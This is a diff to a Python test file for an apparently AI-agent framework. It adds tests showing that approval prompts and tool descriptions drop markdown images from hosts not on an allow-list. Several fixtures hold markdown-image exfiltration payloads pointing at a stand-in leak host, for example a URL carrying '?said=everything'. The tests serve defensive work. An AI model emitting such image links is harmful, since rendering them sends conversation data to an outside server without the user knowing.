@@ -10,11 +10,12 @@ from pydantic import JsonValue
 from structlog.testing import capture_logs
 
 from parleyd.contract import limits
+from parleyd.contract.blocks.options import BlockOptions
 from parleyd.contract.steps import Step, StepCall
 from parleyd.contract.surfaces import Surface
 from parleyd.turns.asking import Asker
 from parleyd.turns.instructions import Instructions
-from parleyd.turns.options import TurnOptions
+from parleyd.turns.options import BlockReplies, TurnOptions
 from parleyd.turns.tools import ApprovalWording
 from tests.turns.ports_in_memory import PlainTool, RandomIds
 from tests.turns.turn_values import DELETE_ARGS, PLAN, collected, guarded_call, invalid, pausing
@@ -33,6 +34,7 @@ DEFAULT: dict[str, JsonValue] = {
     "denyLabel": "Deny",
 }
 OWN: dict[str, JsonValue] = {"prompt": "Delete 3 todos?", "destructive": True}
+OURS = "https://img.books.example/1.png"
 
 
 def asker(
@@ -187,3 +189,38 @@ async def test_what_the_hook_does_to_the_arguments_is_not_what_runs() -> None:
 async def test_words_are_kept_in_the_form_in_which_they_are_stored() -> None:
     used, _ = await worded(saying({"prompt": "Delete \ud83d?"}))
     assert used == {"prompt": "Delete \ufffd?"}
+
+
+async def test_bc_134_the_words_of_an_approval_show_no_image_from_elsewhere() -> None:
+    leak = "![all of it](https://leak.example/?said=everything)"
+    words: dict[str, JsonValue] = {
+        "title": f"Todos {leak}",
+        "prompt": f"Delete? {leak}",
+        "confirmLabel": "![x](//l)",
+    }
+    assert await worded(saying(words)) == (
+        {
+            "title": "Todos all of it",
+            "prompt": "Delete? all of it",
+            "confirmLabel": "\uff01[x](//l)",
+        },
+        [],
+    )
+
+
+async def test_bc_134_a_tool_is_described_without_images_from_elsewhere() -> None:
+    tool = PlainTool("delete", description="Deletes ![todos](https://leak.example/).")
+    told = replace(TOLD, host_tools={"delete": tool})
+    (asked,) = await asker(told=told).asks_of(step_of(guarded_call("a", uuid4())))
+    assert asked.input["prompt"] == "Allow delete? Deletes todos."
+
+
+async def test_an_approval_keeps_images_of_allowed_hosts() -> None:
+    options = TurnOptions(
+        approval_wordings={"delete": saying({"prompt": f"Delete? ![a]({OURS}) ![b](//x)"})},
+        blocks=BlockReplies(BlockOptions(image_hosts=("img.books.example",))),
+    )
+    (asked,) = await Asker(TOLD, "full", options, RandomIds()).asks_of(
+        step_of(guarded_call("a", uuid4()))
+    )
+    assert asked.input == {"prompt": f"Delete? ![a]({OURS}) b"}
